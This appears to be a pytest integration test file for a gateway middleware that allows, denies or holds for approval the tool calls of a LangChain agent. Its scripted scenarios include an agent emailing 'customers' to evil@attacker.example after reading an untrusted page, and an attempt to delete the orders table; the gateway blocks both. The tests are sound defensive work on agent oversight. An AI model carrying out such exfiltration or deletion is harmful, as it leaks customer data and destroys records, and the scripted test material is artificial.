"""ClearanceMiddleware with :class:`clearance.Client` against a real ``clearance serve``.

The same real ``create_agent`` loop and scripted model as :mod:`.test_langchain`; the
decisions are the gateway's, read back over the runtime API with the auditor's key.
Two ways to get a thread's trace: an ``orchestrator`` key opens it itself; an agent
whose key has the ``agent`` scope only gets it from trusted code (``trace_opener``),
and without one the run fails before any tool is called.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.messages import HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from clearance._internal.canonical import json_digest
from clearance.errors import Error
from clearance.integrations.langchain import ClearanceMiddleware
from tests.integration.server.support import Served

from .framework_support import BUNDLE, TASK
from .remote_support import AGENT, ORCHESTRATOR, ClientFor, Ledger, clients_of, gateway_with
from .test_langchain import DONE, THREAD, Effects, ScriptedChatModel, calls, tool_messages


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A ``clearance serve`` whose only bundle is the support agent's."""
    yield from gateway_with(tmp_path_factory.mktemp("gateway"), "support.yaml", BUNDLE)


@pytest.fixture
def client_for(gateway: Served, tmp_path: Path) -> Iterator[ClientFor]:
    """``client_for(key_name)``: a Client of the gateway, closed after the test."""
    yield from clients_of(gateway, tmp_path)


def _agent(middleware: ClearanceMiddleware, effects: Effects, model: ScriptedChatModel) -> Any:
    return create_agent(
        model, effects.tools(), middleware=[middleware], checkpointer=InMemorySaver()
    )


def test_an_orchestrator_key_opens_the_trace_and_the_gateway_governs_each_call(
    gateway: Served, client_for: ClientFor
) -> None:
    ledger = Ledger(gateway)
    effects = Effects()
    model = ScriptedChatModel(
        script=[
            calls(("lookup_order", {"order_id": 42}), ("delete_records", {"table": "orders"})),
            DONE,
        ]
    )
    graph = _agent(ClearanceMiddleware(client_for("orchestrator")), effects, model)
    result = graph.invoke({"messages": [HumanMessage(TASK)]}, THREAD)

    # The allowed tool ran, the denied one did not, and the model read the reasons.
    assert effects.ran == [("lookup_order", {"order_id": 42})]
    by_tool = {m.name: m for m in tool_messages(result)}
    assert by_tool["lookup_order"].content == "order 42: arrived broken"
    assert by_tool["delete_records"].status == "error"
    assert "no-deletes" in str(by_tool["delete_records"].content)
    assert sorted(ledger.decisions()) == [
        (ORCHESTRATOR, "delete_records", "deny"),
        (ORCHESTRATOR, "lookup_order", "allow"),
    ]
    # The gateway recorded the allowed call's outcome: the ToolMessage content's digest.
    [trace] = ledger.new("trace")
    assert trace["mandate"]["text"] == TASK
    [allowed] = [e for e in ledger.new("decision") if e["effect"] == "allow"]
    record = ledger.request(allowed["request_id"])
    assert record["trace_id"] == trace["trace_id"]
    assert record["execution"]["status"] == "ok"
    assert record["execution"]["result_digest"] == json_digest("order 42: arrived broken")
    assert len(ledger.new("execution")) == 1


def test_an_agent_key_governs_a_trace_trusted_code_opened(
    gateway: Served, client_for: ClientFor
) -> None:
    ledger = Ledger(gateway)
    orchestrator = client_for("orchestrator")
    opened: list[str] = []

    def open_for_the_agent(mandate: str) -> str:
        # Trusted application code: its own key opens the trace for the agent's principal.
        trace_id = orchestrator.open_trace(mandate, principal=AGENT).trace_id
        opened.append(trace_id)
        return trace_id

    effects = Effects()
    model = ScriptedChatModel(
        script=[
            calls(("send_email", {"to": "dana@example.com", "body": "hello"})),
            calls(("fetch_page", {"url": "https://shop.example/faq"})),
            calls(("send_email", {"to": "evil@attacker.example", "body": "customers"})),
            DONE,
        ]
    )
    middleware = ClearanceMiddleware(client_for("agent"), trace_opener=open_for_the_agent)
    result = _agent(middleware, effects, model).invoke({"messages": [HumanMessage(TASK)]}, THREAD)

    # The page (untrusted_output in the gateway's bundle) tainted the agent's trace.
    assert [name for name, _ in effects.ran] == ["send_email", "fetch_page"]
    assert ledger.decisions() == [
        (AGENT, "send_email", "allow"),
        (AGENT, "fetch_page", "allow"),
        (AGENT, "send_email", "deny"),
    ]
    assert "no-mail-after-untrusted-input" in str(tool_messages(result)[-1].content)
    [trace] = ledger.new("trace")
    assert [trace["trace_id"]] == opened
    assert trace["mandate"]["text"] == TASK
    assert {e["trace_id"] for e in ledger.new("decision")} == {opened[0]}
    assert len(ledger.new("execution")) == 2


def test_an_agent_key_alone_cannot_open_a_trace_and_no_tool_runs(
    gateway: Served, client_for: ClientFor
) -> None:
    ledger = Ledger(gateway)
    effects = Effects()
    model = ScriptedChatModel(script=[calls(("lookup_order", {"order_id": 42})), DONE])
    graph = _agent(ClearanceMiddleware(client_for("agent")), effects, model)
    with pytest.raises(Error, match="orchestrator"):
        graph.invoke({"messages": [HumanMessage(TASK)]}, THREAD)
    assert effects.ran == []
    assert model.seen == []  # the run stopped before the model was asked anything
    assert ledger.new("trace") == []
    assert ledger.new("decision") == []


def test_a_remote_approval_interrupts_and_the_approved_call_runs_once(
    gateway: Served, client_for: ClientFor
) -> None:
    ledger = Ledger(gateway)
    effects = Effects()
    model = ScriptedChatModel(script=[calls(("refund", {"order_id": 42, "amount": 30.0})), DONE])
    graph = _agent(ClearanceMiddleware(client_for("orchestrator")), effects, model)
    first = graph.invoke({"messages": [HumanMessage(TASK)]}, THREAD)

    [pending] = first["__interrupt__"]
    approval_id = pending.value["clearance_approval_id"]
    assert effects.ran == []
    # Resumed before anyone decided: the gateway says pending, the graph interrupts again.
    again = graph.invoke(Command(resume="check"), THREAD)
    assert again["__interrupt__"][0].value["clearance_approval_id"] == approval_id
    assert effects.ran == []

    with gateway.client("approver") as approver:
        vote = approver.post(
            f"/v1/approvals/{approval_id}", json={"decision": "approve", "reason": "photo"}
        )
    assert vote.status_code == 200, vote.text
    result = graph.invoke(Command(resume="approved"), THREAD)

    assert effects.ran == [("refund", {"order_id": 42, "amount": 30.0})]
    assert tool_messages(result)[-1].content == "refunded 30.0"
    assert ledger.decisions() == [(ORCHESTRATOR, "refund", "approval_required")]
    [executed] = ledger.new("execution")
    assert executed["status"] == "ok"
    assert executed["result_digest"] == json_digest("refunded 30.0")


def test_a_trace_opener_excludes_bounds(gateway: Served, client_for: ClientFor) -> None:
    with pytest.raises(Error, match="trace_opener"):
        ClearanceMiddleware(
            client_for("agent"), bounds={"spend_cap": 10}, trace_opener=lambda _: "t0"
        )
